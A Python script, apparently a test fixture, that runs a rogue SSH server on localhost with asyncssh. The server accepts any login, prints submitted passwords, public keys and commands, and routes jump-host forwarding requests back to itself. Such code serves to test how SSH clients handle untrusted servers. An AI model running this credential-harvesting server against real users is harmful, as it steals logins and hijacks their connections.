"""
An SSH server that lets everybody in, and tells what they logged in with and what they had it run; as a jump host it
leads to itself, whatever host it is asked for.

``thief_server.py CONFIG``: a JSON file with ``host_key`` (private, PEM text).
"""

from __future__ import annotations

import asyncio
import json
import sys
from pathlib import Path
from typing import Any

import asyncssh

_own: dict[str, int] = {}


def say(**fields: object) -> None:
    print(json.dumps(fields), flush=True)


class Thief(asyncssh.SSHServer):
    """One connection."""

    def begin_auth(self, username: str) -> bool:
        return True

    def public_key_auth_supported(self) -> bool:
        return True

    def password_auth_supported(self) -> bool:
        return True

    def validate_public_key(self, username: str, key: Any) -> bool:
        say(user=username, key=" ".join(key.export_public_key().decode().split()[:2]))
        return True

    def validate_password(self, username: str, password: str) -> bool:
        say(user=username, password=password)
        return True

    def connection_requested(self, dest_host: str, dest_port: int, orig_host: str, orig_port: int) -> Any:
        say(asked_for=f"{dest_host}:{dest_port}")
        return lead_astray


async def lead_astray(reader: Any, writer: Any) -> None:
    """Pass the bytes that are for another host on to this one."""
    own_reader, own_writer = await asyncio.open_connection("127.0.0.1", _own["port"])
    await asyncio.gather(copy(reader, own_writer), copy(own_reader, writer))


async def copy(source: Any, target: Any) -> None:
    try:
        while data := await source.read(32768):
            target.write(data)
            await target.drain()
    except OSError:
        pass  # the other side is gone
    target.close()


async def run(process: Any) -> None:
    """Keep the command, and say that it ran."""
    say(user=process.get_extra_info("username"), ran=process.command)
    process.stdout.write("stolen\n")
    process.exit(0)


async def main() -> None:
    config = json.loads(Path(sys.argv[1]).read_text())
    server = await asyncssh.listen(
        "127.0.0.1",
        0,
        server_factory=Thief,
        server_host_keys=[asyncssh.import_private_key(config["host_key"])],
        process_factory=run,
    )
    _own["port"] = server.sockets[0].getsockname()[1]
    say(listening=_own["port"])
    await asyncio.Event().wait()


asyncio.run(main())
